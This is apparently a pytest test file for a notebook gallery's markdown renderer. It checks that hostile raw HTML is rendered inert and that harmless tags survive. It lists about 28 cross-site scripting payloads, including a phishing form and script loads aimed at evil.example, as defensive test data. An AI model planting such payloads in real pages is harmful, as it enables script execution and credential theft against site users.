"""Raw HTML in markdown keeps its harmless markup and loses everything that could run."""

import pytest

from nbgallery.rendering.render import render_markdown, render_notebook
from nbgallery.rendering.tests.inert import assert_inert, elements

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<object data="javascript:alert(1)"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)">x</details>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<a href="javascript:alert(1)">click</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!-- <script>alert(1)</script> -->",
    "<textarea><script>alert(1)</script></textarea>",
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<input type="image" src="x" onerror="alert(1)" autofocus onfocus="alert(2)">',
    "<isindex action=javascript:alert(1) type=image>",
    '<a href="#" is="x-evil" xmlns:xlink="http://www.w3.org/1999/xlink">a</a>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_in_markdown_renders_inert(html):
    assert_inert(render_markdown(f"Before\n\n{html}\n\nAfter *emphasis*"))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_in_a_markdown_cell_renders_inert(html):
    nb = {"cells": [{"cell_type": "markdown", "source": [html, "\n", "**bold**"]}]}
    assert_inert(render_notebook(nb, trusted=True, language="python"))


def test_harmless_markup_survives_sanitizing():
    html = render_markdown('<b>bold</b> <font color="red">red</font> <sub>2</sub> <kbd>Ctrl</kbd>')
    tags = [tag for tag, _ in elements(html)]
    assert {"b", "font", "sub", "kbd"} <= set(tags)
    assert ("color", "red") in dict(elements(html))["font"]


def test_text_that_looks_like_html_in_plain_markdown_stays_text():
    assert "&lt;script&gt;" in render_markdown("`<script>alert(1)</script>`")
